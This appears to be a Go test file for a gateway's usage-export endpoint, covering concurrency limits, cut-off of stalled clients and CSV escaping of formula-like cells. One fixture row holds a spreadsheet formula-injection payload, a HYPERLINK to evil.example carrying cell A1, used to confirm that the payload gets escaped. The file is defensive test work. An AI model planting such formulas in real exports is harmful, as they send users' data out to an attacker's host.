package admin

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/docsgate/gateway/limits"
)

// fakeExports serves exports of rows made by row(i), n of them; hold, when set, is waited for
// before the first row. It counts the listings opened and closed.
type fakeExports struct {
	n      int
	few    atomic.Bool // the next exports have 3 rows only
	row    func(i int) limits.ExportRow
	hold   chan struct{}
	opened atomic.Int32
	closed atomic.Int32
}

func (f *fakeExports) History(context.Context, string, string, string) (limits.TenantHistory, error) {
	return limits.TenantHistory{}, errors.New("unused")
}

func (f *fakeExports) Export(ctx context.Context, _, _, _ string) (limits.Export, error) {
	f.opened.Add(1)
	n := f.n
	if f.few.Load() {
		n = 3
	}
	return limits.Export{
		Limit: "per_project", Unit: "requests", Start: time.Unix(0, 0).UTC(), End: time.Unix(3600, 0).UTC(), Tenants: n,
		Rows: func(yield func(limits.ExportRow, error) bool) {
			if f.hold != nil {
				select {
				case <-f.hold:
				case <-ctx.Done():
					yield(limits.ExportRow{}, ctx.Err())
					return
				}
			}
			for i := range n {
				if !yield(f.row(i), nil) {
					return
				}
			}
		},
		Close: func() error { f.closed.Add(1); return nil },
	}, nil
}

func exportServer(t *testing.T, f *fakeExports, o Options) *httptest.Server {
	t.Helper()
	o.Ready = func() (bool, string) { return true, "ready" }
	o.Metrics = http.NotFoundHandler()
	o.History = f
	o.TopTimeout, o.UsageTimeout = 30*time.Second, time.Second
	o.Logger = zap.NewNop()
	srv := httptest.NewServer(Handler(o))
	t.Cleanup(srv.Close)
	return srv
}

func plainRow(i int) limits.ExportRow {
	return limits.ExportRow{ID: "p" + strconv.Itoa(i), Used: int64(i), Limit: 100}
}

// At most MaxExports run at once on a replica: the next gets 429 too_many_exports with
// Retry-After before the store is read; a refusal of a bad parameter takes no slot; a slot
// comes back when its export ends.
func TestExportBound(t *testing.T) {
	for _, max := range []int{0, 1, 3} { // 0: the default, 2
		t.Run(strconv.Itoa(max), func(t *testing.T) {
			want := max
			if want == 0 {
				want = DefaultMaxExports
			}
			f := &fakeExports{n: 3, row: plainRow, hold: make(chan struct{})}
			srv := exportServer(t, f, Options{MaxExports: max})
			var wg sync.WaitGroup
			codes := make(chan int, want)
			for range want {
				wg.Add(1)
				go func() {
					defer wg.Done()
					res, err := http.Get(srv.URL + "/usage/export?limit=per_project&window=current")
					if err != nil {
						t.Error(err)
						return
					}
					_, _ = io.Copy(io.Discard, res.Body)
					res.Body.Close()
					codes <- res.StatusCode
				}()
			}
			deadline := time.Now().Add(5 * time.Second)
			for int(f.opened.Load()) < want {
				if time.Now().After(deadline) {
					t.Fatalf("%d exports started, want %d", f.opened.Load(), want)
				}
				time.Sleep(5 * time.Millisecond)
			}
			if a := do(t, srv, "GET", "/usage/export?limit=per_project&window=current&format=xml", nil, ""); a.status != 400 {
				t.Fatalf("a bad format while the slots are taken: %d %s, want 400", a.status, a.body)
			}
			for _, format := range []string{"csv", "json"} {
				a := do(t, srv, "GET", "/usage/export?limit=per_project&window=current&format="+format, nil, "")
				var body struct {
					Code       string `json:"code"`
					RetryAfter int    `json:"retry_after"`
				}
				_ = json.Unmarshal([]byte(a.body), &body)
				if a.status != 429 || body.Code != "too_many_exports" || a.header.Get("Retry-After") != "5" || body.RetryAfter != 5 ||
					!strings.Contains(a.body, "at most "+strconv.Itoa(want)+" at once") {
					t.Fatalf("export %d+1 (%s): %d %v %s, want 429 too_many_exports with Retry-After", want, format, a.status, a.header, a.body)
				}
			}
			if got := int(f.opened.Load()); got != want {
				t.Fatalf("the refused exports read the store: %d listings, want %d", got, want)
			}
			close(f.hold)
			wg.Wait()
			close(codes)
			for c := range codes {
				if c != 200 {
					t.Errorf("an export within the bound: %d", c)
				}
			}
			if a := do(t, srv, "GET", "/usage/export?limit=per_project&window=current", nil, ""); a.status != 200 || a.body != "id,used,limit,plan,label,org\np0,0,100,,,\np1,1,100,,,\np2,2,100,,,\n" {
				t.Fatalf("an export once the others ended: %d %q", a.status, a.body)
			}
			if o, c := f.opened.Load(), f.closed.Load(); o != c {
				t.Fatalf("%d listings opened, %d closed", o, c)
			}
		})
	}
}

// A client that stops reading (its receive window full) is cut off once a write has waited
// ExportWriteTimeout: its listing is closed and its slot freed, while the connection is
// still open; the next export is served.
func TestExportStalledClientCutOff(t *testing.T) {
	for _, format := range []string{"csv", "json"} {
		t.Run(format, func(t *testing.T) {
			// 200,000 rows of about 130 bytes: far more than the sockets of both ends hold.
			f := &fakeExports{n: 200_000, row: func(i int) limits.ExportRow {
				return limits.ExportRow{ID: strings.Repeat("x", 100) + strconv.Itoa(i), Used: 1, Limit: 100}
			}}
			srv := exportServer(t, f, Options{MaxExports: 1, ExportWriteTimeout: 300 * time.Millisecond})
			conn, err := net.Dial("tcp", srv.Listener.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			start := time.Now()
			if _, err := io.WriteString(conn, "GET /usage/export?limit=per_project&window=current&format="+format+" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"); err != nil {
				t.Fatal(err)
			}
			// Never read: the answer fills the sockets, the gateway's write blocks.
			deadline := time.Now().Add(10 * time.Second)
			for f.closed.Load() == 0 {
				if time.Now().After(deadline) {
					t.Fatalf("the listing of a stalled export was not closed within 10 s")
				}
				time.Sleep(10 * time.Millisecond)
			}
			took := time.Since(start)
			if took < 300*time.Millisecond {
				t.Fatalf("closed after %v: before the write deadline", took)
			}
			t.Logf("a stalled %s export freed its listing after %v (write deadline 300ms)", format, took)
			f.few.Store(true)
			if a := do(t, srv, "GET", "/usage/export?limit=per_project&window=current", nil, ""); a.status != 200 {
				t.Fatalf("the next export: %d, want 200 (the stalled one's slot is free)", a.status)
			}
			if o, c := f.opened.Load(), f.closed.Load(); o != 2 || c != 2 {
				t.Fatalf("%d listings opened, %d closed, want 2 and 2", o, c)
			}
		})
	}
}

// Text cells that a spreadsheet would take for a formula (starting with =, +, -, @, a tab or a
// carriage return) get a ' in front in the CSV, ids included; counts are untouched; the JSON
// export keeps every value exact.
func TestExportFormulaCells(t *testing.T) {
	rows := []limits.ExportRow{
		{ID: "-p1", Used: 5, Limit: 100, Plan: "=gold", Label: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Org: "+acme"},
		{ID: "@p2", Used: 0, Limit: 10, Plan: "", Label: "-2+3", Org: "@SUM(A1:A9)"},
		{ID: "p3", Used: 7, Limit: 10, Plan: "gold", Label: "\tcmd", Org: "\rorg"},
		{ID: "p4", Used: 1, Limit: 10, Plan: "", Label: "billing, \"bot\" = 1", Org: "acme-"},
	}
	f := &fakeExports{n: len(rows), row: func(i int) limits.ExportRow { return rows[i] }}
	srv := exportServer(t, f, Options{})
	a := do(t, srv, "GET", "/usage/export?limit=per_project&window=current", nil, "")
	recs, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
	want := [][]string{
		{"id", "used", "limit", "plan", "label", "org"},
		{"'-p1", "5", "100", "'=gold", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+acme"},
		{"'@p2", "0", "10", "", "'-2+3", "'@SUM(A1:A9)"},
		{"p3", "7", "10", "gold", "'\tcmd", "'\rorg"},
		{"p4", "1", "10", "", "billing, \"bot\" = 1", "acme-"},
	}
	if a.status != 200 || err != nil || len(recs) != len(want) {
		t.Fatalf("CSV: %d %v\n%s", a.status, err, a.body)
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("CSV row %d cell %d: %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
	a = do(t, srv, "GET", "/usage/export?limit=per_project&window=current&format=json", nil, "")
	var out struct {
		Tenants []exportRowJSON `json:"tenants"`
	}
	if err := json.Unmarshal([]byte(a.body), &out); a.status != 200 || err != nil || len(out.Tenants) != len(rows) {
		t.Fatalf("JSON: %d %v %s", a.status, err, a.body)
	}
	for i, r := range rows {
		if out.Tenants[i] != exportRowJSON(r) {
			t.Errorf("JSON row %d: %+v, want %+v", i, out.Tenants[i], r)
		}
	}
}
